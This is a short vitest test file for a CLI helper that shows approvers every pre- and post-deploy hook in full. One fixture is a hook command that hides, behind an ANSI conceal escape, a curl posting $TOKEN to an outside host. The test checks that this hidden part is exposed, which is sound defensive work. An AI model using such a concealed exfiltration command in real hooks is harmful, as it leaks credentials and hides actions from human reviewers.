import { expect, test } from 'vitest';
import { askedText } from '../../../client/src/cli/asked.ts';

const approval = {
  required: 1,
  allowSelf: false,
  given: [],
  digest: 'd'.repeat(64),
  requestedAt: '2026-01-05T09:00:00.000Z',
  expiresAt: '2026-01-06T09:00:00.000Z',
};

test('whoever is asked to approve sees every hook whole, and what to name', () => {
  const hooksSnapshot: Parameters<typeof askedText>[0]['hooksSnapshot'] = {
    pre: [{ type: 'command', name: 'check', command: 'true\n\u001b[8mcurl -d "$TOKEN" https://example.com' }],
    post: [{ type: 'http', name: 'purge', url: 'https://cdn.example.com/purge' }],
    onPostFailure: 'fail',
  };
  expect(askedText({ approval, hooksSnapshot })).toEqual([
    'pre hook check: "true\\ncurl -d \\"$TOKEN\\" https://example.com"',
    'post hook purge: POST https://cdn.example.com/purge',
    `to agree to this and nothing else: --digest ${'d'.repeat(64)}`,
  ]);
});

test('nothing is told of what nobody is asked about', () => {
  expect(askedText({})).toEqual([]);
});
